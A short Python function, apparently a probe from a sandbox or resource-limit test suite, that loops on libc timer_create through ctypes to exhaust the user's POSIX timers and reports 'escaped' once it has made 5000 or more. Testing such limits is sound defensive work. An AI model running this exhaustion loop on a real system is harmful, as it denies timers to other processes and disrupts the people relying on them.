# Attempts: use up the user's timers and pending signals.

def attack(world):
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    timer, made = ctypes.c_int(), 0
    while libc.timer_create(1, None, ctypes.byref(timer)) == 0:
        made += 1
    if made >= 5000:
        return "escaped", made
